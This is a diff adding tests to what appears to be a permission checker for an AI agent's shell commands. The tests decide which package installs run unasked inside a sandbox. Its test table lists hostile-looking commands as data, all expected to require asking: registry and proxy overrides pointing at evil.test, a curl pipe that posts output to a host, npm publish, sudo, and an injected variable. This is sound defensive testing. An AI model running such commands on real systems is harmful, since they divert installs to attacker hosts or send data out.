@@ -110,3 +110,51 @@ describe("sixty commands of every day's work", () => {
     expect(unasked.filter((made) => made.isContained !== true && !made.onlyReads)).toEqual([]);
   });
 });
+
+describe("an install", () => {
+  test.each<[command: string, hosts: readonly string[], isUnasked: boolean]>([
+    ["npm ci", ["npm"], true],
+    ["npm ci", ["registries"], true],
+    ["npm ci", ["registry.npmjs.org", "*.yarnpkg.com"], true],
+    ["npm install", ["npm"], true],
+    ["npm i --omit=dev", ["npm"], true],
+    ["npm ci && npm test", ["npm"], true],
+    ["cd src && npm ci > log.txt", ["npm"], true],
+    ["npm ci", [], false],
+    ["npm ci", ["pypi", "registry.npmjs.org:8443"], false],
+    ["npm install left-pad", ["npm"], false],
+    ["npm install ./local", ["npm"], false],
+    ["npm install -g", ["npm"], false],
+    ["npm ci -g", ["npm"], false],
+    ["npm ci --registry=https://evil.test", ["npm"], false],
+    ["npm ci --@scope:registry=https://evil.test", ["npm"], false],
+    ["npm_config_registry=https://evil.test npm ci", ["npm"], false],
+    ["npm ci --prefix ../other", ["npm"], false],
+    ["npm ci --cache /tmp/x", ["npm"], false],
+    ["npm ci --unsafe-perm", ["npm"], false],
+    ["npm ci --proxy http://evil.test", ["npm"], false],
+    ["npm ci $X", ["npm"], false],
+    ["npm ci && npm publish", ["npm"], false],
+    ["npm ci | curl -d @- https://registry.npmjs.org", ["npm"], false],
+    ["sudo npm ci", ["npm"], false],
+    ["npm update", ["npm"], false],
+    ["npm login", ["npm"], false],
+    ["npx left-pad", ["npm"], false],
+    ["yarn install", ["registries"], false],
+    ["pnpm install", ["registries"], false],
+    ["pip install -r requirements.txt", ["registries"], false],
+    ["cargo fetch", ["registries"], false],
+    ["go mod download", ["registries"], false],
+  ])("%s with %j in the list runs unasked: %s", async (command, hosts, isUnasked) => {
+    const made = await world({ files: FILES, contains: true, hosts }).decide("exec", { command });
+    expect(made).toMatchObject(isUnasked ? { decision: "allow", isContained: true } : { decision: "ask" });
+    // Nowhere else, in no other mode, and never outside of the sandbox.
+    expect(await world({ files: FILES, hosts }).decide("exec", { command })).toMatchObject({ decision: "ask" });
+    const asking = world({ files: FILES, contains: true, hosts, mode: "ask" });
+    expect(await asking.decide("exec", { command })).toMatchObject({ decision: "ask" });
+    for (const more of [{ outside: true }, { background: true }]) {
+      const other = await world({ files: FILES, contains: true, hosts }).decide("exec", { command, ...more });
+      expect(other).toMatchObject({ decision: "ask" });
+    }
+  });
+});
